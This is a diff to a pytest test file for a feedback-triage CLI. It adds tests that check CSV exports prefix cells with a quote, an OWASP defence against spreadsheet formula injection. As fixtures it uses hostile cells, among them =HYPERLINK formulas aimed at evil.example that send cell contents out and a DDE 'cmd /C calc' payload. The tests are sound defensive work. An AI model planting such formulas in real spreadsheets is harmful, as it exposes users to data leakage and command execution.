@@ -3,14 +3,22 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
+import os
+import subprocess
+import sys
+from pathlib import Path
 
 import pytest
+from sqlmodel import select
 from typer.testing import CliRunner
 
 from tests.conftest import auth
+from tests.support.reliability import note
 from triage import db, store
 from triage.cli import app
+from triage.csv_export import CsvDictWriter, CsvWriter, escape_cell
 
 runner = CliRunner()
 
@@ -156,6 +164,56 @@ def test_cli_issues_and_export_before_processing(settings, tmp_path):  # type: i
     assert exported[0].startswith("id,external_id,source,status,issue_id,issue_ids,category")
 
 
+def test_escape_cell_quotes_what_a_spreadsheet_would_run():
+    """OWASP, CSV Injection: a cell starting with = + - @ tab or CR gets a ' in front."""
+    for formula in ("=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
+                    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-"):  # fmt: skip
+        assert escape_cell(formula) == "'" + formula
+    for kept in ("plain text", " =1+1", "a=b", "'=already quoted", "", "1-2", "é=1"):
+        assert escape_cell(kept) == kept
+    for value in (None, 0, -3, -0.5, 2.5, True):  # numbers stay numbers
+        assert escape_cell(value) is value
+    buffer = io.StringIO()
+    CsvWriter(buffer).writerow(["=1+1", -1, 'say "hi", then\n=2', None])
+    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
+        ["'=1+1", "-1", 'say "hi", then\n=2', ""]
+    ]
+    buffer = io.StringIO()
+    writer = CsvDictWriter(buffer, fieldnames=["a", "@b"])
+    writer.writeheader()
+    writer.writerow({"a": "+x", "@b": "ok"})
+    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["a", "'@b"], ["'+x", "ok"]]
+
+
+def test_cli_csv_exports_escape_formulas(settings, engine, record_property):  # type: ignore[no-untyped-def]
+    """Issue 14: `triage export feedback -f csv` and `triage issues -f csv` wrote customer
+    text such as =HYPERLINK(...) as it was, and a spreadsheet ran it."""
+    note(record_property, fault="cells starting with =, +, -, @ or a tab in CSV exports "
+         "(`triage issues`, `triage issue`, `triage export feedback`)", tried=3,
+         checked="each such cell starts with a single quote (OWASP), no bare formula")  # fmt: skip
+    from tests.api.test_api_issues import seed
+    from triage.models import Feedback, Issue
+
+    ids, _ = seed(engine, sizes=(1,))
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with db.session_scope(engine) as session:
+        issue = session.get(Issue, ids[0])
+        issue.title, issue.keywords = formula, ["@cmd", "export"]
+        feedback = session.exec(select(Feedback)).one()
+        feedback.redacted_text, feedback.external_id = "+1+cmd|' /C calc'!A0", "-42"
+        feedback.customer_id = "\t=1+1"
+    issues = list(csv.DictReader(invoke("issues", "--format", "csv").stdout.splitlines()))
+    assert issues[0]["title"] == "'" + formula and issues[0]["keywords"] == "'@cmd; export"
+    one = list(csv.DictReader(invoke("issue", str(ids[0]), "--format", "csv").stdout.splitlines()))
+    assert one[0]["title"] == "'" + formula
+    exported = invoke("export", "feedback", "--format", "csv").stdout
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    assert rows[0]["text"] == "'+1+cmd|' /C calc'!A0" and rows[0]["external_id"] == "'-42"
+    assert rows[0]["customer_id"].startswith("'")  # redacted or not, never a bare formula
+    for row in (*issues, *one, *rows):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
 def test_cli_refuses_outdated_schema_and_says_how_to_fix(tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
     url = f"sqlite:///{tmp_path / 'old.db'}"
     (tmp_path / "old.db").touch()  # there, but empty: a missing file is another message
@@ -199,12 +257,14 @@ def test_cli_help_lists_every_command():  # type: ignore[no-untyped-def]
 
 def test_cli_train_learns_from_people_s_corrections(settings, engine, tmp_path):  # type: ignore[no-untyped-def]
     from tests.api.test_api_issues import seed
+    from triage import corrections
     from triage.categorize import EXAMPLES_FILE, CategoryClassifier, LabelledExamples
 
     ids, _ = seed(engine, sizes=(3,))
     with db.session_scope(engine) as session:
-        store.update_issue(session, issue_id=ids[0], changes={"category": "data"},
-                           api_key_id=None, actor="test")  # fmt: skip
+        # A person recategorises the issue and confirms that all its statements are "data".
+        corrections.update(session, issue_id=ids[0], changes={"category": "data"},
+                           confirm_units="all", api_key_id=None, actor="test")  # fmt: skip
     out = tmp_path / "classifier"
     result = invoke("train", "--out", str(out))
     assert result.exit_code == 0, result.stderr
@@ -375,3 +435,24 @@ def test_cli_write_commands_create_a_missing_sqlite_once(tmp_path, monkeypatch):
         assert invoke("issues").exit_code == 0
     finally:
         get_settings.cache_clear()
+
+
+def test_cli_run_shows_progress_for_processing_and_every_refresh_phase(settings, engine, tmp_path):  # type: ignore[no-untyped-def]
+    path = tmp_path / "tickets.jsonl"
+    write_jsonl(
+        path,
+        [{"source": "t", "external_id": str(i), "text": f"The CSV export fails, try {i}."}
+         for i in range(12)],
+    )  # fmt: skip
+    assert invoke("ingest", "feedback", str(path)).exit_code == 0
+    # The real command, with a progress display although its output is not a terminal.
+    triage = str(Path(sys.executable).with_name("triage"))
+    done = subprocess.run(
+        [triage, "run"], env={**os.environ, "TRIAGE_PROGRESS": "1", "COLUMNS": "120"},
+        capture_output=True, text=True, timeout=600,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    # Off a terminal, Rich draws the display once, as it ends (the CLI writes to stderr).
+    assert "processing feedback" in done.stderr and "12/12" in done.stderr
+    assert "refreshing issues: done" in done.stderr and "7/7" in done.stderr
+    assert "processed 12, failed 0" in done.stderr
